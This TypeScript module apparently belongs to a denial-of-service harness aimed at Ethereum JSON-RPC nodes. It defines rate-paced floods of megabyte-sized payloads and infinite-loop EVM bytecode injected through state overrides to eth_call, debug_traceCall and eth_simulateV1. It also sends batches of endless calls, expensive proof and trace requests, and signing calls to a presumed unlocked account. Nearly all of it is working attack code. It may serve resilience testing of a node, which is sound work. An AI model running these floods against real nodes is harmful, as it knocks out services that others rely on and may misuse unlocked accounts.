/** These calls cost the node more than they cost their client. */
import { callOf, headOf, PATHS, pace, pick, post, type Row, type Target } from './attack.ts'

type Random = () => number
/** Sends requests this often a second, each made when it is due. */
const callRow = (
  name: string,
  perSecond: number,
  next: (random: Random, count: number) => readonly [what: string, body: string],
): Row => ({
  name,
  make: (target: Target) => () =>
    pace(perSecond, (count) => {
      const [what, body] = next(target.random, count)
      const bytes = Buffer.from(body)
      post(target, what, [headOf(bytes.length, pick(target.random, PATHS)), bytes], count)
    }),
})
/** Sends long requests that differ only in their first parts. */
const longRow = (
  name: string,
  perSecond: number,
  make: () => readonly {
    readonly what: string
    readonly head: (count: number) => string
    readonly rest: string
  }[],
): Row => ({
  name,
  make(target) {
    const made = make().map(({ rest, ...one }) => ({ ...one, rest: Buffer.from(rest) }))
    return () =>
      pace(perSecond, (count) => {
        const { what, head, rest } = pick(target.random, made)
        const start = Buffer.from(head(count))
        const path = pick(target.random, PATHS)
        post(target, what, [headOf(start.length + rest.length, path), start, rest])
      })
  },
})

const HEX = 'ab'.repeat(990_000)
const address = (at: number) => `0x${at.toString(16).padStart(40, '0')}`
const word = (at: number) => `0x${at.toString(16).padStart(64, '0')}`
const many = <T>(count: number, make: (at: number) => T): T[] =>
  Array.from({ length: count }, (_, at) => make(at))
const quantity = (value: number) => `0x${Math.floor(value).toString(16)}`
/** Makes four bytes, which differ each time. */
const dataOf = (count: number) => `0x${count.toString(16).padStart(8, '0')}`
const head = (method: string, start: string) => (count: number) =>
  `{"jsonrpc":"2.0","id":${count},"method":"${method}","params":[${start}`
const fixed = (method: string, ...params: readonly unknown[]) => {
  const text = JSON.stringify(params)
  return { what: method, head: head(method, ''), rest: `${text.slice(1)}}` }
}
/** The node has the key of its first account. */
const UNLOCKED = '0xf39fd6e51aad88f6f4ce6ab8827279cfffb92266'

const hashed: Row = longRow('web3_sha3 of 1 MB, 80/s', 80, () => [
  { what: 'web3_sha3', head: head('web3_sha3', '"0x'), rest: `${HEX}"]}` },
])
const longSends: Row = longRow('eth_sendRawTransaction of a megabyte, 60/s', 60, () => [
  {
    what: 'eth_sendRawTransaction',
    head: head('eth_sendRawTransaction', '"0x02'),
    rest: `${HEX.slice(0, 1_000_000)}"]}`,
  },
])
const longParams: Row = longRow('a megabyte for other methods, 20/s', 20, () => [
  fixed('eth_sendRawTransaction', `0x02${HEX}`),
  fixed('eth_sendRawTransaction', `0x02fa0fffff${'c0'.repeat(980_000)}`),
  fixed('eth_sendRawTransaction', `0x03fa01ffff${'c0'.repeat(131_000)}`),
  fixed('eth_sendRawTransactionSync', `0x04${HEX}`),
  fixed('eth_sign', UNLOCKED, `0x${HEX}`),
  fixed('personal_sign', `0x${HEX}`, UNLOCKED),
  fixed('eth_signTransaction', { from: UNLOCKED, data: `0x${HEX}` }),
  fixed('eth_sendTransaction', { from: UNLOCKED, data: `0x${HEX}` }),
  fixed('eth_signTypedData_v4', UNLOCKED, { types: {}, message: HEX }),
  fixed('eth_newFilter', { address: many(1_000, address), topics: [many(1_000, word)] }),
  fixed('eth_newFilter', { address: many(40_000, address) }),
  fixed('eth_getLogs', { fromBlock: '0x0', address: many(1_000, address) }),
  fixed('eth_getProof', address(1), many(1_024, word), 'latest'),
  fixed('eth_getProof', address(1), many(28_000, word), 'latest'),
  fixed('eth_getStorageValues', { [address(1)]: many(1_024, word) }, 'latest'),
  fixed('eth_call', { to: address(4), data: `0x${HEX}` }, 'latest'),
  fixed('eth_call', { data: `0x${HEX}` }, 'latest'),
  fixed('eth_createAccessList', { to: address(4), data: `0x${HEX}` }, 'latest'),
  fixed('eth_fillTransaction', { from: UNLOCKED, data: `0x${HEX}` }),
  fixed('debug_traceCall', { to: address(4) }, 'latest', { tracer: HEX }),
  fixed('eth_simulateV1', { blockStateCalls: [{ calls: many(9_000, () => ({})) }] }),
])

/** The loop is JUMPDEST PUSH1 0 JUMP. */
const LOOP = '0x5b600056'
/**
 * The loops after the first hash a megabyte, grow memory, call themselves, write slots, and pair
 * nothing.
 */
const LOOPS = [
  LOOP,
  '0x5b620fffff5f20505f56',
  '0x5f5b61ffff018053600156',
  '0x5b5f5f5f5f5f305af1505f56',
  '0x5f5b60010180805d600156',
  '0x5b6020600060006000600860fffa505f56',
  '0x5b6040600060c060006005620ffffffa505f56',
]
const FAR = address(0xbad)
const endlessCall = (code: string, more: object, method = 'eth_call') =>
  callOf(method, [{ to: FAR, ...more }, 'latest', { [FAR]: { code } }])
function relative(random: Random, count: number): readonly [what: string, body: string] {
  const code = pick(random, LOOPS)
  const gas = quantity(10 ** (4.5 + random() * 3.2))
  const more = { gas, data: dataOf(count) }
  const method = pick(random, ['eth_call', 'eth_estimateGas', 'eth_createAccessList'] as const)
  const kind = random()
  if (kind < 0.6) return [`${method} ${code}`, endlessCall(code, more, method)]
  if (kind < 0.8) {
    const options = { stateOverrides: { [FAR]: { code } }, tracer: 'callTracer' }
    return [
      `debug_traceCall ${code}`,
      callOf('debug_traceCall', [{ to: FAR, ...more }, 'latest', options]),
    ]
  }
  const block = {
    stateOverrides: { [FAR]: { code } },
    calls: many(3, () => ({ to: FAR, ...more })),
  }
  return [
    `eth_simulateV1 ${code}`,
    callOf('eth_simulateV1', [{ blockStateCalls: [block] }, 'latest']),
  ]
}

/** Draws the most expensive requests that are allowed, at less than the allowed rate. */
const dear = (random: Random, count: number): readonly [what: string, body: string] => {
  const [method, ...params] = pick<readonly [string, ...unknown[]]>(random, [
    ['eth_getLogs', { fromBlock: '0x0', toBlock: quantity(count) }],
    ['eth_feeHistory', '0x400', 'latest', many(100, (at) => at + (count % 900) / 1_000)],
    ['eth_getProof', address(count), many(1_024, word), 'latest'],
    ['eth_getStorageValues', { [address(count)]: many(1_024, word) }, 'latest'],
    ['rpc.discover'],
    ['eth_getBlockReceipts', 'latest'],
    ['debug_traceBlockByNumber', quantity(count % 50), { tracer: 'prestateTracer' }],
    ['eth_getTransactionReceipt', word(count)],
    ['eth_sign', UNLOCKED, `0x${'ab'.repeat(30_000)}`],
    ['web3_sha3', `0x${'ab'.repeat(30_000)}`],
    [
      'debug_traceCall',
      { to: FAR, gas: '0x30d40' },
      'latest',
      { stateOverrides: { [FAR]: { code: LOOP } } },
    ],
    ['eth_call', { to: address(1 + (count % 9)), data: `0x${'01'.repeat(20_000)}` }, 'latest'],
  ])
  return [method, callOf(method, params)]
}
const endlessBatch = (count: number) =>
  `[${many(100, (at) => endlessCall(LOOP, { data: dataOf(100 * count + at) })).join()}]`

const CODE_BYTES = 900_000
const longCode: Row = longRow('eth_call with 900 kB of override code, 60/s', 60, () =>
  [LOOP.slice(2), '5b'.repeat(4), '00', '60'].map((start) => ({
    what: `code ${start}`,
    head: (count) =>
      `${head('eth_call', `{"to":"${FAR}","data":"${dataOf(count)}"},"latest",`)(count)}{"${FAR}":{"code":"0x${start}`,
    rest: `${start === '60' ? '60'.repeat(CODE_BYTES) : '5b'.repeat(CODE_BYTES)}"}}]}`,
  })),
)

/** This row is longer than the others, because calls that wait for their turn have five seconds. */
const endless: Row = {
  ...callRow('endless eth_calls of one address, each different, 20/s', 20, (_random, count) => [
    'endless',
    endlessCall(LOOP, { data: dataOf(count) }),
  ]),
  times: 2,
}

export const CALL_ROWS: readonly Row[] = [
  hashed,
  longSends,
  longParams,
  endless,
  { ...callRow('other endless work, much and little gas, 20/s', 20, relative), times: 2 },
  longCode,
  callRow('dear requests within the limit, 80/s', 80, dear),
  {
    ...callRow(
      'batches of 100 endless eth_calls, from three addresses, 3/s',
      3,
      (_random, count) => ['batch', endlessBatch(count)],
    ),
    addresses: 3,
  },
]
